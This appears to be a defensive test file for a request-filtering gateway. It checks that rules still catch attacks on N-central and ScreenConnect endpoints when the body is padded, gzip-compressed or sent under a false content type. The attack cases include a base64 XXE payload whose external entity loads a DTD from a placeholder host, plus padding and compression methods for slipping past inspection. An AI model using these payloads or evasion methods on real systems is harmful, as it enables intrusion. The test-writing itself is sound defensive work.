// What attackers do to a body so that rules read less of it than the server, through the whole gate.
import { createHash } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import test from 'ava'
import { startAnswering } from '../support/rule-traffic.ts'
import { ask, SHIPPED_RULES, startWholeGate } from '../support/whole-gate.ts'

const PADDING = ' '.repeat(140_000)
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const template = (padding: string): string =>
  base64(
    `<?xml version="1.0"?><!--${padding}--><!DOCTYPE a [<!ENTITY % x SYSTEM "http://o.example/">%x;]><a/>`,
  )
const call = (inside: string): string => `<e:Envelope>${inside}</e:Envelope>`
const log = (contents: string, before = ''): string =>
  call(`<e:Body><applianceLogSubmit>${before}<contents>${contents}</contents></applianceLogSubmit></e:Body>`)

const attacks: Readonly<Record<string, string | Buffer>> = {
  plain: log(template('')),
  'padded before the call': PADDING + log(template('')),
  'padded in the header of the call': call(`<e:Header>${PADDING}</e:Header>${log(template('')).slice(12)}`),
  'padded before the log': log(template(''), `<logType>${PADDING}</logType>`),
  'padded within the log': log(template(PADDING)),
  'padded and compressed': gzipSync(' '.repeat(2_000_000) + log(template(''))),
}
const honest: Readonly<Record<string, string | Buffer>> = {
  'a long log': log(base64('2026-01-01 agent started\n'.repeat(10_000)), '<sessionID>1</sessionID>'),
  'long assets': call(`<e:Body><assets>${'<x>y</x>'.repeat(40_000)}</assets></e:Body>`),
  'long assets, compressed': gzipSync(
    call(`<e:Body><assets>${'<x>y</x>'.repeat(400_000)}</assets></e:Body>`),
  ),
}

test('attack: padding hides no document type where agents may send long bodies, and their long bodies pass', async t => {
  await using upstream = await startAnswering()
  await using gate = await startWholeGate({
    upstream: { primary: upstream.url },
    policy: { profile: 'n-central', rules: SHIPPED_RULES },
  })
  const send = async (body: string | Buffer): Promise<number> => {
    const coding: Record<string, string> = typeof body === 'string' ? {} : { 'content-encoding': 'gzip' }
    const headers = { 'content-type': 'text/xml', ...coding }
    return (await ask(gate, { method: 'POST', path: '/dms/services/ServerMMS', headers, body })).status
  }
  for (const [name, body] of Object.entries(attacks)) t.is(await send(body), 403, name)
  for (const { hits } of gate.lines.of('request.refused'))
    t.is(hits.at(-1)?.ruleId, 'ncentral-appliance-log-xxe')
  for (const [name, body] of Object.entries(honest)) t.is(await send(body), 200, name)
})

test('attack: a form under another type is read as a form where a rule names the path', async t => {
  await using upstream = await startAnswering()
  await using gate = await startWholeGate({
    upstream: { primary: upstream.url },
    policy: {
      profile: 'n-central',
      classes: { console: { access: 'open', countries: ['US'] } },
      rules: SHIPPED_RULES,
    },
  })
  for (const type of ['text/plain', 'application/octet-stream', 'image/png', 'application/x-own']) {
    const question = { method: 'POST', path: '/dms/services/ServerUI', headers: { 'content-type': type } }
    t.is((await ask(gate, { ...question, body: 'x&method=sessionHello&applianceID=3' })).status, 403, type)
    t.is((await ask(gate, { ...question, body: 'x&method=versionInfoGet' })).status, 200, type)
  }
})

test('attack: what a compressed body holds beyond the part that is unpacked passes no class that refuses what it cannot read', async t => {
  await using upstream = await startAnswering()
  await using gate = await startWholeGate({
    upstream: { primary: upstream.url },
    policy: {
      profile: 'screenconnect',
      classes: { console: { access: 'open', countries: ['US'] } },
      rules: SHIPPED_RULES,
    },
  })
  // Text that compresses to a tenth: too little to count as a bomb.
  const lines = Array.from({ length: 30_000 }, (_, at) =>
    createHash('md5')
      .update(`${at >> 3}`)
      .digest('hex'),
  )
  const send = async (text: string): Promise<number> => {
    const body = gzipSync(text)
    t.true(body.length < 128 * 1024, `${body.length}`)
    const headers = { 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': 'gzip' }
    return (await ask(gate, { method: 'POST', path: '/Login', headers, body })).status
  }
  const padding = lines.join('').repeat(2).slice(0, 1_100_000)
  t.is(await send(`a=${padding}&__VIEWSTATE=/wEyoDEAAQAAAP`), 403)
  t.like(gate.lines.of('request.refused')[0], { reason: 'rule', class: 'console' })
  t.is(gate.lines.of('request.refused')[0]?.hits.at(-1)?.ruleId, 'body-unreadable')
  t.is(await send(`a=${padding.slice(0, 900_000)}`), 200)
})
